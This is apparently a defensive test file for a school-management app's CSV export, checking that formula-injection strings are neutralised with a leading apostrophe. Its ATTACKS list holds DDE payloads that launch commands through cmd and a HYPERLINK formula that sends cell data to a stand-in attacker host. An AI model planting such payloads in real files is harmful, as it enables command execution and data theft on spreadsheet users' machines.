import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { startTestApp, type TestApp } from '../../test/harness.js';
import { buildWorld, cityAdminToken } from '../../test/fixtures.js';
import { csvField } from './export.columns.js';
import { templateCsv } from '../import/import.templates.js';
import { IMPORT_KINDS } from '../import/import.columns.js';

/** CSV formula injection (issue 12, section 6): no cell a spreadsheet would evaluate leaves us. */

const ATTACKS = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '-1)+cmd',
  '-A1',
];

describe('CSV cells', () => {
  it.each(ATTACKS)('neutralises %j with a leading apostrophe', (attack) => {
    const [[cell]] = parse(csvField(attack), { relaxQuotes: false }) as string[][];
    expect(cell).toBe(`'${attack}`);
  });

  it('keeps real numbers, negative ones included, readable as numbers', () => {
    expect([-3, -0.5, -1e-7, 0, 42].map(csvField)).toEqual(['-3', '-0.5', '-1e-7', '0', '42']);
    // Text that is exactly a numeral is a constant to a spreadsheet, not a formula.
    expect(['-3', '-0.25', '12'].map(csvField)).toEqual(['-3', '-0.25', '12']);
  });

  it('leaves ordinary text alone', () => {
    expect(['张敏', 'a-b', 'x=1', '济南市历下区'].map(csvField)).toEqual(['张敏', 'a-b', 'x=1', '济南市历下区']);
  });

  it('writes the import templates through the same guard', () => {
    for (const kind of IMPORT_KINDS) {
      const rows = parse(templateCsv(kind).replace(/^\uFEFF/, '')) as string[][];
      for (const cell of rows.flat()) expect(cell, `${kind}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});

describe('CSV exports', () => {
  let t: TestApp;
  let city: string;
  beforeAll(async () => {
    t = await startTestApp();
    city = await cityAdminToken(t);
  });
  afterAll(() => t.close());

  it('exports a school whose address is a formula as text', async () => {
    const world = await buildWorld(t, city, { districtCode: '370971', schools: 1, teachersPerSchool: 0 });
    const attack = "-2+3+cmd|' /C calc'!A0";
    const r = await t.gql(
      'mutation($id: ID!, $i: UpdateSchoolInput!) { updateSchool(id: $id, input: $i) { id } }',
      { id: world.schoolIds[0], i: { address: attack } },
      city,
    );
    expect(r.errors).toBeUndefined();
    const res = await fetch(t.url.replace(/\/graphql$/, '/api/export/schools.csv'), {
      headers: { authorization: `Bearer ${city}` },
    });
    expect(res.status).toBe(200);
    const rows = parse((await res.text()).replace(/^\uFEFF/, '')) as string[][];
    const cells = rows.slice(1).flat();
    expect(cells).toContain(`'${attack}`);
    expect(cells).not.toContain(attack);
  });
});
